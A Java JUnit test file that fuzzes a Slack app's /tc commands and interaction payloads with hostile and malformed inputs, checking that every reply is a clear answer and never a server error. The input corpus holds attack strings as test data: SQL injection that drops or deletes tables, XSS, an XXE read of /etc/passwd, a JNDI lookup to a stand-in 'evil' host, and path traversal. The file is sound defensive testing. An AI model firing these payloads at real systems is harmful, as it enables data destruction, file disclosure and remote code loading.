package org.techvoice.slack;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.techvoice.support.SlackApiStub;
import org.techvoice.support.SlackAppTest;
import org.techvoice.support.SlackJson;
import org.techvoice.support.SlackTestClient;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * At least 200 hostile and odd inputs against every registered {@code /tc} sub-command (taken from
 * {@link TcSubcommands}, so sub-commands added later are covered without touching this test) and every
 * interaction kind: each gets a clear answer from a listener the app registered, never a 5xx, never the generic
 * failure reply that a listener throwing gets.
 */
@SlackAppTest
class HostileInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String USER = "U0HOSTILE1";

    @LocalServerPort
    int port;

    /** The generic "something went wrong" reply: the sign that a listener threw. */
    private static final String FAILURE = "something went wrong on our side";

    @Autowired
    TcSubcommands subcommands;

    @Autowired
    com.slack.api.bolt.App app;

    SlackTestClient slack;

    @BeforeEach
    void setUp() {
        SlackApiStub.reset();
        // Slack takes what the app posts after the ack (consent requests, confirmations): a refused post would be
        // retried for seconds by the outbox, work this test has no use for
        SlackApiStub.stubDeliveries();
        SlackApiStub.server().stubFor(post(urlPathEqualTo("/api/views.publish")).willReturn(SlackApiStub.okJson("{\"ok\":true}")));
        SlackApiStub.server().stubFor(post(urlPathEqualTo("/response-url/hostile")).willReturn(aResponse().withStatus(200).withBody("ok")));
        // Slack knows the user (a member, not a workspace admin): the lead-only sub-commands refuse on a remembered
        // answer, as in a real workspace, rather than asking Slack again after each failed lookup
        SlackApiStub.stubUser(USER, false, false, false);
        slack = new SlackTestClient(port);
    }

    /** The corpus: what people paste, what attackers try, what breaks parsers. */
    static List<String> corpus() {
        List<String> corpus = new ArrayList<>(seeds());
        corpus.addAll(variants());
        return corpus;
    }

    /** What people paste, what attackers try, what breaks parsers. */
    static List<String> seeds() {
        Set<String> inputs = new LinkedHashSet<>(List.of(
                "", " ", "   ", "\t", "\n", "\r\n", " \t \n ", "\u00a0", "\u2003", "\u200b", "\ufeff",
                "x".repeat(40_000), "word ".repeat(8_000), "🎉".repeat(5_000), "a\u0301".repeat(10_000),
                "\u0000", "\u0000abc", "abc\u0000", "\u0007\u0008\u001b[31mred\u001b[0m", "\u007f", "line1\nline2\nline3",
                "\u202eevil\u202c", "\u200f\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd", "مرحبا بالعالم", "שלום",
                "Z\u0351\u0360\u0361a\u0352l\u0353g\u0354o\u0355", "e\u0301\u0301\u0301\u0301\u0301", "👩‍🔬👨🏽‍🔧🧑🏿‍🏫", "🏳️‍🌈", "\ud83d",
                "\udc00", "𝕿𝖊𝖈𝖍𝖓𝖎𝖈𝖎𝖆𝖓", "ｔｅｃｈ", "İstanbul", "ß", "ǅ", "ﬁle",
                "*bold*", "_italic_", "~strike~", "`code`", "```block```", "> quote", "<@U0ADMIN01>", "<@U0ADMIN01|admin>",
                "<!channel>", "<!here>", "<!everyone>", "<!subteam^S012345>", "<#C0GENERAL1>", "<#C0GENERAL1|general>",
                "<https://evil.example|click me>", "<mailto:a@b.c>", "@channel", "@here", ":tada:", ":not_an_emoji_at_all:",
                "&amp;", "&lt;script&gt;", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b>",
                "<!-- comment -->", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                "'; DROP TABLE workspace; --", "\" OR \"1\"=\"1", "1; DELETE FROM outbox_message", "' UNION SELECT * FROM shedlock --",
                "%", "%%", "%s%s%s%n", "%00", "\\", "\\\\", "\\n", "\\u0000", "${jndi:ldap://evil/a}", "#{7*7}", "{{7*7}}",
                "../../../etc/passwd", "C:\\Windows\\system32", "null", "undefined", "NaN", "true", "false", "0", "-1",
                "99999999999999999999999999", "1e309", "0x7fffffff", "[]", "{}", "{\"a\":", "[[[[[[[[", "]]]]",
                "help", "HELP", "hElP", "help help", "help\u0000", "--help", "-h", "?", "/tc", "/tc help",
                "https://example.com", "javascript:alert(1)", "data:text/html,<b>x</b>", "U0ADMIN01", "T0OTHER02",
                "me", "everyone", "all", "yes", "no", "cancel", "delete", "undo", "😀 smile", "tab\tseparated\tvalues",
                "a,b,c", "\"quoted\"", "'single'", "`back`ticks`", "emoji 🧪 and text", "¯\\_(ツ)_/¯", "( ͡° ͜ʖ ͡°)"));
        return new ArrayList<>(inputs);
    }

    /**
     * Padded and mention-wrapped variants of the first short seeds (whitespace, control and Unicode edge cases). The
     * four huge seeds (up to 40,000 characters, already past what Slack sends) have none: their variants only
     * multiplied the bytes hashed, sent and parsed, without reaching a new branch.
     */
    static List<String> variants() {
        List<String> seeds = seeds();
        Set<String> variants = new LinkedHashSet<>();
        for (String seed : seeds.subList(0, 64)) {
            if (seed.length() < 1_000) {
                variants.add("  " + seed + "  ");
                variants.add(seed + " <@U0TECH001> " + seed);
            }
        }
        variants.removeAll(seeds);
        return new ArrayList<>(variants);
    }

    @Test
    void theCorpusHasAtLeastTwoHundredInputs() {
        assertThat(corpus()).hasSizeGreaterThanOrEqualTo(200);
    }

    @Test
    void everySubcommandAnswersEveryHostileInputClearly() throws Exception {
        List<String> names = new ArrayList<>(subcommands.all().stream().map(TcSubcommand::name).toList());
        names.add("");  // the input as the sub-command itself
        List<String> seeds = seeds();
        List<String> variants = variants();
        // Every sub-command gets every seed; the variants, which test the same parsing once more with padding and a
        // mention around it, go to every third sub-command each, in turn: each variant still reaches a third of the
        // sub-commands and each sub-command a third of the variants, in about two thirds of the full product's requests.
        // Thousands of requests: two sub-commands at a time (as Slack's users would send them), so the sweep uses
        // the core this JVM would otherwise leave idle while each request makes its round trip.
        java.util.stream.IntStream.range(0, names.size()).parallel().forEach(n -> {
            String name = names.get(n);
            List<String> inputs = new ArrayList<>(seeds);
            for (int v = n % 3; v < variants.size(); v += 3) {
                inputs.add(variants.get(v));
            }
            for (String input : inputs) {
                String text = name.isEmpty() ? input : name + " " + input;
                HttpResponse<String> response = slack.slashCommand(SlackTestClient.TEAM, USER, "/tc", text);
                String what = "/tc " + abbreviate(text);
                assertThat(response.statusCode()).as(what).isEqualTo(200);
                JsonNode body = SlackJson.parse(response.body());
                assertThat(body.path("text").asText("") + SlackJson.allText(response.body())).as(what).isNotBlank();
                assertThat(body.path("blocks").size()).as(what).isLessThanOrEqualTo(SlackReplies.MESSAGE_BLOCK_LIMIT);
                assertThat(response.body()).as(what).doesNotContain("<!channel>").doesNotContain("<!everyone>");
                // answered by the router or a sub-command, not by the fallback for requests nobody handles
                assertThat(response.headers().firstValue(AnsweringApp.UNHANDLED_HEADER)).as(what).isEmpty();
                // and not by the generic "something went wrong": a listener that throws is answered with it
                assertThat(SlackJson.allText(response.body())).as(what).doesNotContain(FAILURE);
            }
        });
    }

    /**
     * Each hostile value, in every field a user controls, reaches a listener the app really registered (ids taken
     * from the Bolt app itself, so listeners added later are covered): each answers without a server error, none
     * falls through to the "unhandled" fallback, and none answers with the generic failure, in the acknowledgement or
     * later through the response URL.
     */
    @Test
    void hostileValuesReachRealListenersAndNoneAnswersWithTheGenericFailure() throws Exception {
        // listeners that open or push a modal see Slack accept it
        for (String method : List.of("views.open", "views.update", "views.push")) {
            SlackApiStub.server().stubFor(post(urlPathEqualTo("/api/" + method)).willReturn(SlackApiStub.okJson("{\"ok\":true}")));
        }
        List<String> values = corpus().stream().filter(value -> value.length() < 2_000).limit(80).toList();
        Map<String, List<String>> registered = new java.util.LinkedHashMap<>();
        registered.put("block_actions", literalIds("blockActionHandlers"));
        registered.put("view_submission", literalIds("viewSubmissionHandlers"));
        registered.put("view_closed", literalIds("viewClosedHandlers"));
        registered.put("shortcut", literalIds("globalShortcutHandlers"));
        registered.put("message_action", literalIds("messageShortcutHandlers"));
        registered.put("block_suggestion", literalIds("blockSuggestionHandlers"));
        assertThat(registered.get("block_actions")).as("block actions the app registers").hasSizeGreaterThanOrEqualTo(10);
        assertThat(registered.get("view_submission")).as("modals the app registers").hasSizeGreaterThanOrEqualTo(3);
        String responseUrl = SlackApiStub.server().baseUrl() + "/response-url/hostile";
        int reached = 0;
        for (Map.Entry<String, List<String>> kind : registered.entrySet()) {
            List<String> ids = kind.getValue();
            if (ids.isEmpty()) {
                continue;
            }
            // every value reaches some listener of this kind, and every listener gets some values
            for (int i = 0; i < Math.max(values.size(), ids.size()); i++) {
                String id = ids.get(i % ids.size());
                String value = values.get(i % values.size());
                ObjectNode payload = (ObjectNode) SlackJson.parse(payloadFor(kind.getKey(), id, value));
                payload.put("response_url", responseUrl);
                HttpResponse<String> response = slack.interactive(payload.toString());
                String what = kind.getKey() + " " + id + " with " + abbreviate(value);
                assertThat(response.statusCode()).as(what).isLessThan(500);
                assertThat(response.headers().firstValue(AnsweringApp.UNHANDLED_HEADER)).as(what + " reached no listener").isEmpty();
                assertThat(SlackJson.allText(response.body())).as(what).doesNotContain(FAILURE);
                reached++;
            }
        }
        assertThat(reached).isGreaterThanOrEqualTo(200);
        // replies sent after the acknowledgement; waited for long enough for the last ones to arrive
        Thread.sleep(1_000);
        assertThat(SlackApiStub.server().findAll(com.github.tomakehurst.wiremock.client.WireMock
                .postRequestedFor(urlPathEqualTo("/response-url/hostile"))))
                .allSatisfy(told -> assertThat(SlackJson.allText(told.getBodyAsString())).doesNotContain(FAILURE));
    }

    /** The ids of the listeners registered on the Bolt app for one kind, where they are literal (not patterns). */
    @SuppressWarnings("unchecked")
    private List<String> literalIds(String handlersField) throws ReflectiveOperationException {
        java.lang.reflect.Field field = com.slack.api.bolt.App.class.getDeclaredField(handlersField);
        field.setAccessible(true);
        Map<java.util.regex.Pattern, ?> handlers = (Map<java.util.regex.Pattern, ?>) field.get(app);
        List<String> ids = new ArrayList<>();
        for (java.util.regex.Pattern pattern : handlers.keySet()) {
            java.util.regex.Matcher literal = java.util.regex.Pattern.compile("\\^\\\\Q(.*)\\\\E\\$").matcher(pattern.pattern());
            if (literal.matches()) {
                ids.add(literal.group(1));
            }
        }
        return ids;
    }

    /** A payload of {@code kind} addressed to the listener {@code id}, with {@code value} in every field a user controls. */
    static String payloadFor(String kind, String id, String value) {
        ObjectNode p = (ObjectNode) SlackJson.parse(payload(kind, value, SlackTestClient.TEAM));
        switch (kind) {
            case "block_actions" -> ((ObjectNode) p.path("actions").get(0)).put("action_id", id);
            case "view_submission", "view_closed" -> ((ObjectNode) p.path("view")).put("callback_id", id);
            case "shortcut", "message_action" -> p.put("callback_id", id);
            case "block_suggestion" -> p.put("action_id", id);
            default -> throw new IllegalArgumentException(kind);
        }
        return p.toString();
    }

    @Test
    void usersFromAnotherTeamAndUnknownCommandsGetAnAnswer() throws Exception {
        HttpResponse<String> other = slack.slashCommand(SlackTestClient.OTHER_TEAM, "U0STRANGER", "/tc", "help");
        assertThat(other.statusCode()).isEqualTo(200);
        assertThat(SlackJson.allText(other.body())).contains("/tc help");

        HttpResponse<String> unknown = slack.slashCommand(SlackTestClient.TEAM, USER, "/techvoice-old", "help");
        assertThat(unknown.statusCode()).isEqualTo(200);
        assertThat(SlackJson.allText(unknown.body())).contains("/tc");
    }

    @Test
    void everyInteractionKindAnswersHostilePayloadsWithoutAServerError() throws Exception {
        List<String> fieldValues = corpus().stream().filter(value -> value.length() < 2_000).limit(80).toList();
        int sent = 0;
        for (String kind : List.of("block_actions", "view_submission", "view_closed", "shortcut", "message_action",
                "block_suggestion", "interactive_message", "dialog_submission")) {
            for (String value : fieldValues) {
                HttpResponse<String> response = slack.interactive(payload(kind, value, SlackTestClient.TEAM));
                assertThat(response.statusCode()).as(kind + " with " + abbreviate(value)).isLessThan(500);
                sent++;
            }
            HttpResponse<String> stranger = slack.interactive(payload(kind, "x", SlackTestClient.OTHER_TEAM));
            assertThat(stranger.statusCode()).as(kind + " from another team").isLessThan(500);
        }
        assertThat(sent).isGreaterThanOrEqualTo(200);
    }

    @Test
    void malformedPayloadsAreRefusedClearlyNeverWithAServerError() {
        List<String> bodies = List.of("payload=", "payload=%7B", "payload=not+json", "payload=%5B%5D", "payload=null",
                "payload=%22string%22", "payload=%7B%7D", "payload=%7B%22type%22%3A%22no_such_type%22%7D",
                "payload=%7B%22type%22%3A%22block_actions%22%7D", "payload=%7B%22type%22%3A%22view_submission%22%2C%22view%22%3A5%7D",
                "payload=%7B%22type%22%3A%22block_actions%22%2C%22actions%22%3A%22x%22%7D", "=", "&&&", "payload",
                "command=%2Ftc", "command=%2Ftc&text=help", "text=%00", "%ZZ");
        for (String body : bodies) {
            HttpResponse<String> response = slack.postSigned(body, "application/x-www-form-urlencoded",
                    SlackTestClient.nowSeconds(), Map.of());
            assertThat(response.statusCode()).as(body).isLessThan(500);
        }
        for (String body : List.of("{", "[]", "null", "{}", "{\"type\":\"event_callback\"}", "{\"type\":\"event_callback\",\"event\":5}",
                "{\"type\":\"event_callback\",\"event\":{\"type\":\"no_such_event\"},\"event_id\":\"Ev0X\",\"team_id\":\"T0TEST001\"}")) {
            HttpResponse<String> response = slack.postSigned(body, "application/json", SlackTestClient.nowSeconds(), Map.of());
            assertThat(response.statusCode()).as(body).isLessThan(500);
        }
    }

    @Test
    void aButtonNobodyHandlesIsAcknowledgedAndTheUserToldItExpired() {
        ObjectNode payload = (ObjectNode) SlackJson.parse(payload("block_actions", "old-button", SlackTestClient.TEAM));
        payload.put("response_url", SlackApiStub.server().baseUrl() + "/response-url/hostile");

        HttpResponse<String> response = slack.interactive(payload.toString());

        assertThat(response.statusCode()).isEqualTo(200);
        await().atMost(Duration.ofSeconds(10)).until(() -> !SlackApiStub.server().findAll(
                com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor(urlPathEqualTo("/response-url/hostile"))).isEmpty());
        String told = SlackApiStub.server().findAll(com.github.tomakehurst.wiremock.client.WireMock
                .postRequestedFor(urlPathEqualTo("/response-url/hostile"))).get(0).getBodyAsString();
        assertThat(SlackJson.parse(told).path("response_type").asText()).isEqualTo("ephemeral");
        assertThat(SlackJson.allText(told)).contains("expired");
    }

    @Test
    void aViewSubmissionForAViewNeverOpenedGetsAModalSayingSo() {
        HttpResponse<String> response = slack.interactive(payload("view_submission", "never-opened", SlackTestClient.TEAM));

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue(AnsweringApp.UNHANDLED_HEADER)).contains("true");
        JsonNode body = SlackJson.parse(response.body());
        assertThat(body.path("response_action").asText()).isEqualTo("update");
        assertThat(body.path("view").path("type").asText()).isEqualTo("modal");
        assertThat(SlackJson.allText(response.body())).contains("expired");
    }

    /** A payload of the given kind, shaped as Slack sends it, with {@code value} in every field a user or attacker controls. */
    static String payload(String kind, String value, String team) {
        ObjectNode p = JSON.createObjectNode();
        p.put("type", kind);
        p.put("token", "legacy-verification-token");
        p.put("api_app_id", "A0TECHVOICE");
        p.putObject("team").put("id", team).put("domain", "uni");
        p.putObject("user").put("id", USER).put("username", value).put("team_id", team);
        p.put("trigger_id", SlackTestClient.newTriggerId());
        p.put("callback_id", value);
        p.put("action_ts", "1700000000.000100");
        p.put("response_url", "https://hooks.slack.com/actions/" + team + "/1/abc");
        p.putObject("channel").put("id", "C0GENERAL1").put("name", "general");
        switch (kind) {
            case "block_actions" -> {
                ObjectNode action = p.putArray("actions").addObject();
                action.put("type", "button").put("action_id", value).put("block_id", value).put("value", value)
                        .put("action_ts", "1700000000.000100");
                action.putObject("text").put("type", "plain_text").put("text", "Go");
                p.putObject("container").put("type", "message").put("message_ts", "1700000000.000001");
            }
            case "view_submission", "view_closed" -> {
                ObjectNode view = p.putObject("view");
                view.put("id", "V0NEVER01").put("type", "modal").put("callback_id", value).put("private_metadata", value)
                        .put("hash", "1700000000.abc").put("team_id", team);
                view.putObject("title").put("type", "plain_text").put("text", "Form");
                view.putArray("blocks");
                view.putObject("state").putObject("values").putObject(value.isEmpty() ? "b" : value)
                        .putObject("input").put("type", "plain_text_input").put("value", value);
            }
            case "message_action" -> {
                p.putObject("message").put("type", "message").put("text", value).put("user", "U0TECH001").put("ts", "1700000000.000002");
            }
            case "block_suggestion" -> {
                p.put("action_id", value).put("block_id", value).put("value", value);
                p.putObject("container").put("type", "view").put("view_id", "V0NEVER01");
            }
            case "interactive_message" -> {
                p.putArray("actions").addObject().put("name", value).put("type", "button").put("value", value);
            }
            case "dialog_submission" -> {
                p.putObject("submission").put("field", value);
                p.put("state", value);
            }
            default -> {
            }
        }
        return p.toString();
    }

    private static String abbreviate(String text) {
        String shown = text.length() > 40 ? text.substring(0, 40) + "…(" + text.length() + " chars)" : text;
        return shown.replace("\u0000", "\\0");
    }
}
